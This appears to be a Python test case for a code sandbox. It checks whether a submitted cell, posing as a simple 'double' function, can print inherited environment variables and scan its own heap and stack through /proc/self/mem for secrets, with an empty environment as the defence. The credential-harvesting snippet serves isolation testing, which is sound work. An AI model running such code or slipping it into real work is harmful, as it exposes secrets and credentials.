from case import Case

CASE = Case(
    "D18",
    tries="prints what it inherited from the process that forked it: environment, memory and random numbers",
    defence="empty environment",
    cells={
        "double": """
import os, re

print(dict(os.environ))
for line in open("/proc/self/maps"):
    if re.search(r" rw-p .*(heap|stack)", line.replace("[", " ").replace("]", "")):
        start, end = (int(word, 16) for word in line.split()[0].split("-"))
        with open("/proc/self/mem", "rb") as memory:
            memory.seek(start)
            text = memory.read(min(end - start, 64 << 20))
        print(set(re.findall(rb"secret.{10,60}", text)[:50]))

def double(x):
    return 2 * x
""",
    },
    falls_without=("empty environment",),
)
